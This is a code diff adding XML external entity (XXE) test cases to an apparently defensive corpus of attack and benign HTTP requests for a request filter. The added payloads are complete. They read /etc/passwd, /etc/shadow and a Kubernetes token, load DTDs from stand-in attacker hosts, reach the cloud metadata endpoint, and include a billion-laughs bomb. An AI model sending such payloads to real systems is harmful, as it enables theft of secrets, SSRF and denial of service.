@@ -299,6 +299,32 @@ const MATRIX_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'matrix: prompt naming wget and a URL', why: 'Prose about downloading a file', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'How do I use wget https://example.com/file.tar.gz to resume a download?' } },
 ];
 
+/**
+ * XML external entities, written from how an XML parser is made to resolve what it should not: a general or
+ * parameter entity with an external identifier, an external DTD, an internal subset that expands (billion
+ * laughs), XInclude, and the UTF-7 disguise; in an XML body and wherever an XML document can ride (JSON
+ * field, query, multipart field). The benign side: XML the API and its users really send.
+ */
+const XML = (s: string) => ({ ...bearer, 'Content-Type': s });
+const XXE_ATTACKS: CorpusEntry[] = [
+  { category: 'xxe', name: 'external entity reading a local file (XML body)', why: 'The classic XXE: SYSTEM "file:///…" expanded into the document', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0"?>\n<!DOCTYPE order [\n  <!ENTITY secret SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">\n]>\n<order><note>&secret;</note></order>' },
+  { category: 'xxe', name: 'parameter entity fetching a remote DTD (out of band)', why: 'Blind XXE: a parameter entity loads an attacker DTD that exfiltrates by URL', method: 'POST', path: '/api/imports', headers: XML('text/xml'), body: '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://198.51.100.23/x.dtd"> %remote; %send;]><data>1</data>' },
+  { category: 'xxe', name: 'external DTD in a SOAP envelope', why: 'A DOCTYPE with a SYSTEM identifier makes the parser fetch it (SSRF)', method: 'POST', path: '/api/soap', headers: XML('application/soap+xml'), body: '<?xml version="1.0"?><!DOCTYPE Envelope SYSTEM "http://169.254.169.254/latest/meta-data/"><Envelope><Body/></Envelope>' },
+  { category: 'xxe', name: 'entity expansion bomb (billion laughs)', why: 'Nested internal entities exhaust the parser memory', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b2 "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY b3 "&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;">]><b>&b3;</b>' },
+  { category: 'xxe', name: 'XInclude of a local file', why: 'XInclude reads files where the DOCTYPE is not under the attacker\'s control', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>' },
+  { category: 'xxe', name: 'UTF-7 encoded DOCTYPE', why: 'A UTF-7 document hides "<!" from filters that read bytes', method: 'POST', path: '/api/imports', headers: XML('text/xml'), body: '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY b SYSTEM +ACI-file:///etc/shadow+ACIAPgBd-+AD4-\n+ADw-a+AD4AJg-b+ADsAPA-/a+AD4-' },
+  { category: 'xxe', name: 'XXE document in a JSON field', why: 'An XML document passed as a JSON string to a converter', method: 'POST', path: '/api/convert', headers: bearer, json: { format: 'xml', document: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' } },
+  { category: 'xxe', name: 'XXE in a query parameter', why: 'An XML document in a URL parameter', path: '/api/convert?xml=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22http%3A%2F%2F10.0.0.1%2F%22%3E%5D%3E%3Cr%3E%26x%3B%3C%2Fr%3E' },
+  { category: 'xxe', name: 'PUBLIC identifier pointing at an attacker DTD', why: 'PUBLIC with a non-W3C identifier still fetches its system URL', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { manifest: '<!DOCTYPE m PUBLIC "-//ACME//x" "https://attacker.example/m.dtd"><m/>' } } },
+];
+
+const XXE_BENIGN: CorpusEntry[] = [
+  { category: 'upload', name: 'XML import with a declaration and escaped entities', why: 'XML is an accepted body type: a plain document with &amp; and attributes', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0" encoding="UTF-8"?>\n<agents>\n  <agent id="agt_1" model="factory-large">Research &amp; summarise</agent>\n  <agent id="agt_2"><![CDATA[Use <b>bold</b> headings]]></agent>\n</agents>' },
+  { category: 'upload', name: 'SOAP envelope', why: 'A SOAP 1.2 request with namespaces', method: 'POST', path: '/api/soap', headers: XML('application/soap+xml'), body: '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetRun xmlns="urn:factory"><id>run_42</id></GetRun></soap:Body></soap:Envelope>' },
+  { category: 'upload', name: 'XHTML page with the W3C doctype', why: 'The standard XHTML doctype names a W3C PUBLIC identifier', method: 'PUT', path: '/api/pages/about', headers: XML('application/xml'), body: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>About</title></head><body><p>Hi</p></body></html>' },
+  { category: 'prompt', name: 'prompt about doctypes and XML entities', why: 'Users ask about markup and XXE in words', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why must the HTML5 doctype be the first line, what is an external entity in a DTD, and how do I disable entity resolution in libxml2 (XML_PARSE_NOENT) to prevent XXE?') },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -364,6 +390,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...INDEPENDENT_ATTACKS,
   ...HOLDOUT_2_ATTACKS,
   ...MATRIX_ATTACKS,
+  ...XXE_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -412,4 +439,5 @@ export const BENIGN: CorpusEntry[] = [
   ...INDEPENDENT_BENIGN,
   ...HOLDOUT_2_BENIGN,
   ...MATRIX_BENIGN,
+  ...XXE_BENIGN,
 ];
